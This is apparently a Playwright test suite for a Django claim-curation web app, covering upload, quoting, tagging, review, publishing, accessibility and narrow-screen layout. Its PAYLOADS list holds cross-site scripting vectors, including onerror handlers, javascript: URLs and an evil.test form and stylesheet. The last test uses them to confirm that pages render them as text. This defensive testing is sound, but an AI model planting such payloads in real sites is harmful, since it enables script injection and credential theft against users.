"""The way of a claim through a real browser, with and without JavaScript: read, mark, tag, submit, publish, see."""

import pytest
from django.urls import reverse

from articles import working
from articles.models import Article
from claims.models import Claim
from claims.workflow import State
from immuno_atlas.web.clock import database_now
from tests.curation_pages import select
from tests.factories.accounts import CuratorFactory, InterestStatementFactory, ReviewerFactory
from tests.factories.articles import ArticleStudyFactory, TextVersionFactory
from tests.factories.claims import EXACT, ClaimFactory, PublishedClaimFactory, SubmittedClaimFactory
from tests.factories.vocabulary import SubtypeFactory, TermFactory

RELEASE = (
    "<html lang='en'><head><title>New antibody helps</title><meta property='article:published_time' "
    "content='2025-03-04'></head><body><article><h1>New antibody helps patients with breast cancer</h1>"
    "<p>BERLIN, March 4, 2025 -- Eleven of 40 patients with breast cancer responded to exemplumab in a phase II trial, "
    "the Example Institute said today. The responses lasted for a median of nine months in those patients.</p>"
    "<p>Pneumonitis was seen in three patients and resolved after treatment with steroids was given early on.</p>"
    "<p>The trial goes on at twelve hospitals, where further patients are treated and followed for two years.</p>"
    "</article></body></html>"
)
QUOTED = "Eleven of 40 patients with breast cancer responded to exemplumab in a phase II trial"
PROPOSITION = "Exemplumab induces responses in breast cancer."
PAYLOADS = [
    "<script>window.__x=1</script>",
    "<img src=x onerror=window.__x=1>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<svg onload=window.__x=1>",
    "<svg><animate onbegin=window.__x=1 attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=window.__x=1></style></svg>",
    "<math><mi//xlink:href='javascript:window.__x=1'>",
    "<template><img src=x onerror=window.__x=1></template>",
    "<iframe srcdoc='&lt;script&gt;window.__x=1&lt;/script&gt;'>",
    "<embed src='//evil.test/x.swf'>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__x=1'>",
    "<link rel=stylesheet href='//evil.test/x.css'>",
    "<style>@import '//evil.test/x.css'</style>",
    "<p style='background:url(//evil.test/t.gif)'>tracker</p>",
    "<form action='//evil.test/'><input name=password></form>",
    "<details open ontoggle=window.__x=1>",
    "<xss style='display:block' onpointerover=window.__x=1>y</xss>",
    "<title></title><img src=x onerror=window.__x=1>",
    "<!--><img src=x onerror=window.__x=1>-->",
]


@pytest.fixture
def curator(transactional_db):
    return CuratorFactory(signs_in=True)


@pytest.fixture
def reviewer(transactional_db):
    reviewer = ReviewerFactory(signs_in=True)
    InterestStatementFactory(user=reviewer, stated_at=database_now())
    return reviewer


@pytest.fixture
def terms(transactional_db):
    return [
        TermFactory(preferred_name="exemplumab", facet="therapy", named=["EXP-1"]),
        SubtypeFactory(preferred_name="breast cancer"),
    ]


def taken_in(page):
    """Upload the release as a file, and let it be read."""
    page.goto(reverse("admin:intake"))
    page.locator("input[type=file]").set_input_files(
        [{"name": "release.html", "mimeType": "text/html", "buffer": RELEASE.encode()}]
    )
    page.get_by_role("button", name="Add").click()
    page.get_by_role("heading", name="Being read").wait_for()
    article = working.settle(Article.objects.get(), patience=60)
    assert article.current_text is not None
    assert QUOTED in article.current_text.text
    return article


def published_by(page, sign_in, reviewer):
    """The second person's part, the same with and without a script."""
    sign_in(page, reviewer, reverse("admin:review"))
    page.get_by_role("link", name=PROPOSITION).click()
    assert QUOTED in page.locator(".in-context mark").inner_text()
    page.get_by_label("The quote says this").check()
    page.get_by_role("button", name="Publish").click()
    page.get_by_text("Nothing waits for you.").wait_for()
    claim = Claim.objects.get()
    assert (claim.state, claim.reviewer) == (State.PUBLISHED, reviewer)
    page.goto(f"/claims/{claim.pk}/")
    assert PROPOSITION in page.locator("main").inner_text()
    assert QUOTED in page.locator("main").inner_text()


def test_from_an_upload_to_the_public_page(visitor, visitors, sign_in, curator, reviewer, terms):
    sign_in(visitor, curator, reverse("admin:curate"))
    taken_in(visitor)
    visitor.get_by_role("link", name="Read and curate").click()
    select(visitor, QUOTED)
    visitor.get_by_role("button", name="Quote these words").click()
    visitor.locator("#card .quote").wait_for()
    assert visitor.locator("#card .quote blockquote").inner_text() == QUOTED
    visitor.get_by_label("Proposition").fill(PROPOSITION)
    with visitor.expect_response(lambda answer: "/admin/curate/" in answer.url):
        visitor.get_by_label("Claim type").select_option("efficacy")
    with visitor.expect_response(lambda answer: "/admin/curate/" in answer.url):
        visitor.get_by_label("Study design").select_option("phase_2")
    visitor.locator("#card .derived .level-B").wait_for()
    visitor.get_by_label("Direction").select_option("supports")
    visitor.get_by_label("Significance").select_option("sensitivity_response")
    for field, name, chosen in (("Therapy", "exp-1", "exemplumab"), ("Subtype", "breast cancer", "breast cancer")):
        visitor.get_by_label(field, exact=False).first.fill(name)
        visitor.keyboard.press("Enter")
        visitor.get_by_label(chosen, exact=True).wait_for()
    assert visitor.get_by_label("Proposition").input_value() == PROPOSITION
    visitor.get_by_text("Ready for review.").wait_for()
    visitor.get_by_role("button", name="Save and submit").click()
    visitor.get_by_text("Submitted for review.").wait_for()
    assert visitor.locator("#text mark").inner_text() == QUOTED
    assert Claim.objects.get().state == State.IN_REVIEW
    published_by(visitors(), sign_in, reviewer)


def test_the_same_way_without_any_script(plain_visitor, visitors, sign_in, curator, reviewer, terms):
    page = plain_visitor
    sign_in(page, curator, reverse("admin:curate"))
    article = taken_in(page)
    page.get_by_role("link", name="Look again").click()
    page.get_by_role("link", name="Read and curate").click()
    page.locator("input.tick").nth(
        [quoted.inner_text() for quoted in page.locator("span.s").all()].index(sentence(article))
    ).check()
    page.get_by_label("Proposition").fill(PROPOSITION)
    page.get_by_label("Claim type").select_option("efficacy")
    page.get_by_label("Study design").select_option("phase_2")
    page.get_by_label("Direction").select_option("supports")
    page.locator("#tag-therapy").fill("EXP-1")
    page.locator("#tag-subtype").fill("breast cancer")
    page.get_by_role("button", name="Update the form").click()
    page.get_by_label("exemplumab", exact=True).wait_for()
    page.get_by_label("Significance").select_option("sensitivity_response")
    page.get_by_role("button", name="Save and submit").click()
    page.get_by_text("Submitted for review.").wait_for()
    published_by(visitors(java_script_enabled=False), sign_in, reviewer)


def sentence(article):
    """The sentence of the release that holds the quoted words."""
    from claims.sentences import cut

    text = article.current_text.text
    return next(text[one.start : one.end] for one in cut(text) if QUOTED in text[one.start : one.end])


def test_what_is_typed_while_an_answer_is_on_its_way_is_kept(visitor, sign_in, curator):
    text = TextVersionFactory()
    sign_in(visitor, curator, reverse("admin:curate-article", args=[text.snapshot.article_id]))
    waiting = []
    visitor.route(
        "**/admin/curate/*/",
        lambda route: waiting.append(route) if route.request.method == "POST" else route.continue_(),
    )
    with visitor.expect_request(lambda asked: asked.method == "POST"):
        visitor.get_by_label("Study design").select_option("in_vivo_mouse")
    visitor.get_by_label("Proposition").press_sequentially("Typed while waiting")
    assert len(waiting) == 1
    waiting.pop().continue_()
    visitor.locator("#card .derived .level-D").wait_for()
    assert visitor.get_by_label("Proposition").input_value() == "Typed while waiting"
    assert visitor.evaluate("document.activeElement.id") == "id_proposition"


def test_a_refusal_is_shown_in_place_and_the_correction_saves(visitor, sign_in, curator):
    text = TextVersionFactory()
    visitor.expected |= {409, 422}
    sign_in(visitor, curator, reverse("admin:curate-article", args=[text.snapshot.article_id]))
    visitor.get_by_label("Proposition").fill("One sentence. And another one.")
    visitor.get_by_role("button", name="Save draft").click()
    visitor.locator("#id_proposition_error").wait_for()
    assert visitor.get_by_label("Proposition").input_value() == "One sentence. And another one."
    visitor.get_by_label("Proposition").fill("One sentence.")
    visitor.get_by_role("button", name="Save draft").click()
    visitor.get_by_text("Saved as a draft.").wait_for()
    assert Claim.objects.get().proposition == "One sentence."


def test_updates_of_the_form_set_no_style_and_a_draft_stays_open(visitor, sign_in, curator):
    text = TextVersionFactory()
    address = reverse("admin:curate-article", args=[text.snapshot.article_id])
    sign_in(visitor, curator, address)
    # As the browser does when somebody drags the corner of a text field; a report fails the test.
    visitor.evaluate(
        "for (const one of document.querySelectorAll('#card textarea, #card input')) one.style.height = '5rem'"
    )
    visitor.get_by_label("Proposition").fill("One sentence.")
    visitor.get_by_label("Study design").select_option("in_vivo_mouse")
    visitor.locator("#card .derived .level-D").wait_for()
    visitor.get_by_role("button", name="Save draft").click()
    said = visitor.locator("#card .card-foot [role=status]", has_text="Saved as a draft.")
    said.wait_for()
    draft = Claim.objects.get()
    assert visitor.url.endswith(f"{address}?claim={draft.pk}")
    assert visitor.get_by_role("heading", name=f"Draft {draft.pk}").is_visible()
    assert said.evaluate(
        "one => { const box = one.getBoundingClientRect(); return box.top >= 0 && box.bottom <= innerHeight }"
    )


def test_whoever_rests_while_marking_words_marks_them_all_the_same(visitor, sign_in, curator):
    text = TextVersionFactory(text=f"A release\n\nBERLIN, March 4, 2025 -- {QUOTED}, it said today.\n\nIt goes on.")
    sign_in(visitor, curator, reverse("admin:curate-article", args=[text.snapshot.article_id]))
    select(visitor, QUOTED, resting=200)
    visitor.get_by_role("button", name="Quote these words").click()
    visitor.locator("#card .quote").wait_for()
    assert visitor.locator("#card .quote blockquote").inner_text() == QUOTED


def test_the_words_stay_where_they_are_while_the_page_loads(visitor, sign_in, curator):
    text = TextVersionFactory(text="Eleven of 40 patients responded. None of them relapsed in a year. " * 6)
    sign_in(visitor, curator, reverse("admin:curate"))
    held = []
    visitor.route("**/curate*.js", lambda route: held.append(route))  # noqa: PLW0108  # a bound method cannot be asked
    with visitor.expect_request("**/curate*.js"):
        visitor.goto(reverse("admin:curate-article", args=[text.snapshot.article_id]), wait_until="commit")
    words = visitor.locator("#text .s").last
    words.wait_for()
    before = words.bounding_box()
    held.pop().continue_()
    visitor.get_by_role("button", name="Tick sentences").wait_for()
    assert words.bounding_box() == before


def test_the_browser_asks_before_unsaved_words_are_left(visitor, sign_in, curator):
    text = TextVersionFactory()
    sign_in(visitor, curator, reverse("admin:curate-article", args=[text.snapshot.article_id]))
    asked = []
    visitor.on("dialog", lambda dialog: (asked.append(dialog.type), dialog.accept()))
    visitor.reload()
    visitor.get_by_label("Proposition").fill("One sentence.")
    visitor.reload()
    assert asked == ["beforeunload"]
    visitor.get_by_label("Proposition").fill("One sentence.")
    visitor.get_by_role("button", name="Save draft").click()
    visitor.get_by_text("Saved as a draft.").wait_for()
    visitor.reload()
    assert asked == ["beforeunload"]


def test_a_discarded_draft_comes_back(visitor, sign_in, curator):
    text = TextVersionFactory()
    claim = ClaimFactory(text=text, by=curator)
    sign_in(visitor, curator, reverse("admin:curate-article", args=[text.snapshot.article_id]))
    visitor.get_by_role("button", name=f"Discard draft {claim.pk}").click()
    visitor.get_by_role("button", name="Bring it back").click()
    visitor.get_by_text("Here it is again.").wait_for()
    assert visitor.get_by_role("heading", name=f"Draft {claim.pk}").is_visible()


def test_the_role_of_a_passage_is_corrected_in_place(visitor, sign_in, curator):
    text = TextVersionFactory()
    passage = text.passages.filter(role="body").first()
    sign_in(visitor, curator, reverse("admin:curate-article", args=[text.snapshot.article_id]))
    visitor.locator(f"#passage-{passage.pk} .role").click()
    visitor.get_by_label("Role of this passage", exact=True).select_option("about")
    visitor.get_by_role("button", name="Set").last.click()
    visitor.locator(f"#passage-{passage.pk}.role-about").wait_for()
    passage.refresh_from_db()
    assert passage.role == "about"


def test_suggestions_come_while_a_name_is_typed(visitor, sign_in, curator, terms):
    text = TextVersionFactory()
    sign_in(visitor, curator, reverse("admin:curate-article", args=[text.snapshot.article_id]))
    visitor.locator("#tag-therapy").press_sequentially("exp")
    visitor.locator("#terms-therapy option").first.wait_for(state="attached")
    assert visitor.locator("#terms-therapy option").first.get_attribute("value") == "exemplumab"


@pytest.fixture
def desk(curator, reviewer):
    """Everything that the pages can show at once."""
    text = TextVersionFactory()
    ArticleStudyFactory(article=text.snapshot.article)
    ArticleStudyFactory(article=text.snapshot.article, confirmed_by=curator)
    claims = {
        "draft": ClaimFactory(text=text, by=reviewer, proposition="A draft holds.", direction="", exact=EXACT[10:]),
        "waiting": SubmittedClaimFactory(text=text, by=curator),
        "own": SubmittedClaimFactory(text=text, by=reviewer, proposition="My own claim holds."),
        "published": PublishedClaimFactory(text=text, proposition="A published claim holds."),
    }
    return {"text": text, **claims}


def pages(desk):
    article = reverse("admin:curate-article", args=[desk["text"].snapshot.article_id])
    passage = desk["text"].passages.all()[1]
    return [
        reverse("admin:curate"),
        f"{reverse('admin:curate')}?words=nothing",
        article,
        f"{article}?claim={desk['draft'].pk}",
        f"{article}?passage={passage.pk}",
        reverse("admin:review"),
        *(reverse("admin:review-claim", args=[desk[name].pk]) for name in ("waiting", "own", "published", "draft")),
        reverse("admin:claims_claim_changelist"),
        reverse("admin:claims_claim_change", args=[desk["published"].pk]),
        reverse("admin:claims_review_changelist"),
        reverse("admin:claims_claimversion_changelist"),
    ]


def test_the_pages_are_accessible(visitor, sign_in, reviewer, desk, accessibility):
    sign_in(visitor, reviewer, reverse("admin:curate"))
    found = {}
    for address in pages(desk):
        assert visitor.goto(address).status == 200
        if violations := accessibility(visitor):
            found[address] = violations
    assert found == {}


def test_the_form_with_every_field_and_a_refusal_is_accessible(visitor, sign_in, reviewer, desk, accessibility):
    visitor.expected |= {409, 422}
    article = reverse("admin:curate-article", args=[desk["text"].snapshot.article_id])
    sign_in(visitor, reviewer, f"{article}?claim={desk['draft'].pk}")
    visitor.locator("#tag-therapy").fill("nobody knows this")
    visitor.get_by_label("n in all").fill("forty")
    visitor.get_by_role("button", name="Tick sentences").click()
    visitor.get_by_role("button", name="Save and submit").click()
    visitor.locator("#card .refusal").wait_for()
    visitor.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
    assert accessibility(visitor) == []


@pytest.mark.parametrize("scripts", [True, False])
def test_the_pages_fit_320_pixels(visitors, sign_in, reviewer, desk, scripts):
    page = visitors(viewport={"width": 320, "height": 700}, java_script_enabled=scripts)
    sign_in(page, reviewer, reverse("admin:curate"))
    own = [address for address in pages(desk) if "/admin/claims/" not in address]
    widths = {}
    for address in own:
        page.goto(address)
        page.wait_for_load_state()
        widths[address] = page.evaluate("document.documentElement.scrollWidth") if scripts else width_of(page)
    assert {address: width for address, width in widths.items() if width > 320} == {}


def width_of(page):
    """Without scripts of its own the page is measured through the browser's tools."""
    session = page.context.new_cdp_session(page)
    return session.send("Page.getLayoutMetrics")["cssContentSize"]["width"]


def test_hostile_words_stay_words(visitor, sign_in, reviewer):
    text = TextVersionFactory(text="\n\n".join(["Title " + PAYLOADS[0], *PAYLOADS, f"Words. {PAYLOADS[1]}"]))
    article = text.snapshot.article
    article.title = " ".join(PAYLOADS)[:500]
    article.publisher = PAYLOADS[1]
    article.save()
    claim = SubmittedClaimFactory(text=text, exact=PAYLOADS, note=PAYLOADS[1], proposition=f"It holds {PAYLOADS[0]}")
    draft = ClaimFactory(text=text, exact=PAYLOADS, by=reviewer, proposition=f"It holds {PAYLOADS[1]}")
    sign_in(visitor, reviewer, reverse("admin:curate"))
    curate = reverse("admin:curate-article", args=[article.pk])
    for address in (
        reverse("admin:curate"), curate, f"{curate}?claim={draft.pk}", reverse("admin:review"),
        reverse("admin:review-claim", args=[claim.pk]), reverse("admin:claims_claim_changelist"),
        reverse("admin:claims_claim_change", args=[claim.pk]), reverse("admin:articles_article_changelist"),
        reverse("admin:articles_article_change", args=[article.pk]),
    ):  # fmt: skip
        assert visitor.goto(address).status == 200
        assert visitor.evaluate("window.__x") is None
        assert (
            visitor.locator("#content :is(iframe, embed, template, xss, math, [onerror], [style*=evil])").count() == 0
        )
    visitor.goto(curate)
    shown = [one.inner_text() for one in visitor.locator("#text p[data-s]").all()]
    assert shown[1 : 1 + len(PAYLOADS)] == PAYLOADS
    visitor.locator("#text .s").nth(3).hover()
    assert visitor.evaluate("window.__x") is None
